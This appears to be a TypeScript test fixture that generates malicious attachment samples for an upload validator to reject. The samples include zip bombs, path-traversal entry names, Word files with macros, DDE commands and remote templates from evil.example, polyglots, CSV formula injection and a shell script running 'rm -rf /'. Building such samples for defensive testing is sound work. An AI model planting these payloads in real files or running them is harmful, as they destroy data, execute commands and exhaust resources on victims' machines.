// Files no listing may carry: bombs, polyglots, macros, links to elsewhere, names that lie. Made here, kept nowhere.
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { anOfficeFile, aZipOf, outside, type Packed, part } from './sample-archives.ts';
import { aJpeg, aPdf, aPng, aWebp, badEvidence, type SampleFile } from './sample-files.ts';

const ascii = (text: string): Buffer => Buffer.from(text, 'latin1');
const zeros = (mebibytes: number): Buffer => Buffer.alloc(mebibytes * 1024 * 1024);
const html = '<!doctype html><script>alert(1)</script>';
const zip = (files: readonly Packed[], lies = {}): SampleFile => ({ name: 'a.zip', bytes: aZipOf(files, lies) });
const docx = (parts: Parameters<typeof anOfficeFile>[1]): SampleFile => ({
  name: 'a.docx',
  bytes: anOfficeFile('docx', parts),
});
const xlsx = (parts: Parameters<typeof anOfficeFile>[1]): SampleFile => ({
  name: 'a.xlsx',
  bytes: anOfficeFile('xlsx', parts),
});
const text = part('a.txt', 'only text');

/** Sixteen archives in sixteen archives …, as 42.zip has them. */
function nested(depth: number): Buffer {
  let inner: Buffer = aZipOf([{ name: '0.txt', content: zeros(4) }]);
  for (let level = 0; level < depth; level += 1)
    inner = aZipOf(Array.from({ length: 16 }, (_, index) => ({ name: `${index}.zip`, content: inner })));
  return inner;
}

/** As many entries as asked that all point to one kernel of packed zeros (D. Fifield, "A better zip bomb"). */
const overlapping = (count: number): Buffer =>
  aZipOf([
    { name: '0.txt', content: zeros(1) },
    ...Array.from({ length: count }, (_, index) => ({ name: `${index + 1}.txt`, content: zeros(1), sameAs: 0 })),
  ]);

/** PNG whose header promises little and whose data unfold to more. */
const lyingPng = (): Buffer => {
  const png = aPng(8, 8);
  return Buffer.concat([png.subarray(0, -12), ascii('junk'), png.subarray(-12)]);
};

const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const field = (instruction: string) =>
  `<w:document xmlns:w="urn:w"><w:p><w:r><w:instrText>${instruction}</w:instrText></w:r></w:p></w:document>`;

const archives: Readonly<Record<string, SampleFile>> = {
  'a bomb of 200 MB in 200 KB': zip([{ name: 'a.txt', content: zeros(200) }]),
  'a bomb that claims to be small': zip([{ name: 'a.txt', content: zeros(100), claimedSize: 1_000 }]),
  'a bomb in many parts': zip(Array.from({ length: 100 }, (_, i) => ({ name: `${i}.txt`, content: zeros(3) }))),
  'a bomb of bombs, like 42.zip': { name: '42.zip', bytes: nested(2) },
  'a bomb of entries lying over each other': { name: 'a.zip', bytes: overlapping(200) },
  'an archive in an archive': zip([{ name: 'b.zip', content: aZipOf([text]) }]),
  'an archive in an archive named as text': zip([{ name: 'b.txt', content: aZipOf([text]) }]),
  'three thousand files': zip(Array.from({ length: 3_000 }, (_, i) => part(`${i}.txt`, 'x'))),
  'a path out of the archive': zip([part('../../etc/cron.d/a.txt', 'x')]),
  'a path out of it, written for Windows': zip([part('..\\..\\a.txt', 'x')]),
  'a path from the root': zip([part('/etc/a.txt', 'x')]),
  'a path with a drive': zip([part('C:/a.txt', 'x')]),
  'a path with a null character': zip([part('a.txt\0.exe', 'x')]),
  'a link': zip([{ ...part('a.txt', '/etc/passwd'), mode: 0o120777 }]),
  'a device': zip([{ ...part('a.txt', ''), mode: 0o060644 }]),
  'an encrypted entry': zip([{ ...text, flags: 1 }]),
  'a strongly encrypted entry': zip([{ ...text, flags: 0x41 }]),
  'zip64 sizes in a small file': zip([{ ...text, claimedSize: 0xffffffff }]),
  'more entries than it says': zip([text, part('b.txt', 'x')], { entries: 1 }),
  'fewer entries than it says': zip([text], { entries: 2 }),
  'two files of one name': zip([text, part('A.TXT', 'other')]),
  'another name before the bytes': zip([{ ...text, localName: 'b.exe' }]),
  'a wrong check sum': zip([{ ...text, claimedCrc: 1 }]),
  'an unusual method': zip([{ ...text, method: 99 }]),
  'bytes hidden between entries': zip([text, part('b.txt', 'x')], { between: ascii(html.repeat(4)) }),
  'a comment that is a page': zip([text], { comment: html }),
  'a page before the archive': { name: 'a.zip', bytes: Buffer.concat([ascii(html), aZipOf([text])]) },
  'an archive with something behind it': { name: 'a.zip', bytes: Buffer.concat([aZipOf([text]), ascii(html)]) },
  'an archive cut off': { name: 'a.zip', bytes: aZipOf([text]).subarray(0, -10) },
  'an archive of nothing': { name: 'a.zip', bytes: aZipOf([]) },
  'a program in an archive': zip([part('setup.exe', 'MZ\x90')]),
  'a program in an archive, named as a picture': zip([{ name: 'a.png', content: ascii('MZ\x90\0\0') }]),
  'a page in an archive': zip([part('a.html', html)]),
  'a drawing with a script in an archive': zip([part('a.svg', '<svg><script>alert(1)</script></svg>')]),
  'a PDF with a script in an archive': zip([
    { name: 'a.pdf', content: aPdf('8 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n') },
  ]),
  'a Word file with macros in an archive': zip([
    { name: 'a.docx', content: anOfficeFile('docx', { more: [part('word/vbaProject.bin', 'x')] }) },
  ]),
};

const office: Readonly<Record<string, SampleFile>> = {
  'a Word file with macros': docx({ more: [part('word/vbaProject.bin', 'x')] }),
  'a Word file with macros under another name': docx({
    more: [{ name: 'word/media/image1.dat', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }],
  }),
  'a macro file renamed': docx({ mainType: macroType }),
  'a macro file as it is': { name: 'a.docm', bytes: anOfficeFile('docx', { mainType: macroType }) },
  'a sheet with old macros': xlsx({
    types: '<Override PartName="/xl/macrosheets/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
  }),
  'a Word file that fetches its template': docx({
    relations: outside('attachedTemplate', 'https://evil.example/t.dotm'),
  }),
  'one that fetches it in disguise': docx({
    relations: outside('attachedTemplate', 'https://evil.example/t').replace('"External"', '"&#69;xternal"'),
  }),
  'a Word file with an outside object': docx({ relations: outside('oleObject', 'mhtml:https://evil.example!x') }),
  'a Word file with an outside picture': docx({ relations: outside('image', 'https://evil.example/pixel.png') }),
  'a Word file with a link to a share': docx({ relations: outside('hyperlink', 'file://evil.example/share') }),
  'a Word file with an object inside': docx({ more: [part('word/embeddings/oleObject1.bin', 'x')] }),
  'a Word file with ActiveX': docx({ more: [part('word/activeX/activeX1.xml', '<a/>')] }),
  'a Word file that runs a command': docx({ body: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') }),
  'one whose command is in pieces': docx({
    body: field('DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd.exe'),
  }),
  'a sheet that runs a command': xlsx({
    more: [part('xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>')],
  }),
  'a Word file with entities of its own': docx({
    body: '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
  }),
  'a Word file with a program inside': docx({ more: [{ name: 'word/media/image1.png', content: ascii('MZ\x90\0') }] }),
  'a Word file with an archive inside': docx({ more: [{ name: 'word/media/image1.png', content: aZipOf([text]) }] }),
  'a Word file with a macro sheet behind a chart': docx({
    more: [
      {
        name: 'word/embeddings/Sheet1.xlsx',
        content: anOfficeFile('xlsx', { more: [part('xl/vbaProject.bin', 'x')] }),
      },
    ],
  }),
  'a Word file that is a bomb': docx({ more: [{ name: 'word/big.xml', content: zeros(150) }] }),
  'a Word file with a locked part': {
    name: 'a.docx',
    bytes: aZipOf([{ ...part('[Content_Types].xml', '<Types/>'), flags: 1 }]),
  },
  'a sheet named as a Word file': { name: 'a.docx', bytes: anOfficeFile('xlsx') },
  'a Word file named as an archive': { name: 'a.zip', bytes: anOfficeFile('docx') },
  'a program for Java named as a Word file': {
    name: 'a.docx',
    bytes: aZipOf([part('META-INF/MANIFEST.MF', 'Main-Class: A'), part('A.class', '\xca\xfe\xba\xbe')]),
  },
};

const polyglots: Readonly<Record<string, SampleFile>> = {
  'a PDF that is an archive, too': {
    name: 'a.pdf',
    bytes: (() => {
      const inner = aZipOf([text]);
      const pdf = aPdf(
        `9 0 obj\n<< /Length ${inner.length} >>\nstream\n${inner.toString('latin1')}\nendstream\nendobj\n`,
      );
      return pdf;
    })(),
  },
  'a picture that is a program for Java, too (GIFAR)': {
    name: 'a.gif',
    bytes: Buffer.concat([ascii('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), aZipOf([part('A.class', 'x')])]),
  },
  'a PNG with junk between its parts': { name: 'a.png', bytes: lyingPng() },
  'a PNG whose data are not whole': { name: 'a.png', bytes: aPng(4_000, 4_000) },
  'a WebP that is only a frame': { name: 'a.webp', bytes: aWebp() },
  'a JPEG without a picture': { name: 'a.jpg', bytes: aJpeg(1_200, 900) },
};

const texts: Readonly<Record<string, SampleFile>> = {
  'a page named as text': { name: 'a.txt', bytes: ascii(html) },
  'a drawing named as text': { name: 'a.txt', bytes: ascii('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>') },
  'a drawing': { name: 'a.svg', bytes: ascii('<svg xmlns="http://www.w3.org/2000/svg"/>') },
  'a page': { name: 'a.html', bytes: ascii(html) },
  'a shell script named as text': { name: 'a.txt', bytes: ascii('#!/bin/sh\nrm -rf /\n') },
  'a shell script': { name: 'a.sh', bytes: ascii('echo hello\n') },
  'a table whose cell starts a program': { name: 'a.csv', bytes: ascii("name,value\nx,=cmd|'/c calc'!A1\n") },
  'bytes named as text': { name: 'a.txt', bytes: Buffer.from([0, 1, 2, 3, 255, 254, 0, 9]) },
  'a packed tape named as text': { name: 'a.csv', bytes: gzipSync(ascii('a,b')) },
  'raw packed bytes named as an archive': { name: 'a.zip', bytes: deflateRawSync(zeros(1)) },
  'a packed stream named as a PDF': { name: 'a.pdf', bytes: deflateSync(zeros(1)) },
  'a 7z archive': { name: 'a.7z', bytes: Buffer.from('377abcaf271c0004', 'hex') },
  'a RAR archive named as ZIP': { name: 'a.zip', bytes: Buffer.from('526172211a0701003392b5e5', 'hex') },
  'more bytes than allowed': { name: 'a.txt', bytes: Buffer.alloc(21 * 1024 * 1024, 97) },
  'a rich text named as text': { name: 'a.txt', bytes: ascii('{\\rtf1{\\object\\objdata 00}}') },
};

/** What is bad as evidence because of its kind alone may be a good attachment. */
const goodHere = new Set(['a WebP', 'a file of 11 MB']);
const asEvidence = Object.entries(badEvidence)
  .filter(([kind]) => !goodHere.has(kind))
  .map(([kind, file]) => [`${kind} (as for evidence)`, file] as const);

export const badAttachments: Readonly<Record<string, SampleFile>> = {
  ...archives,
  ...office,
  ...polyglots,
  ...texts,
  ...Object.fromEntries(asEvidence),
};
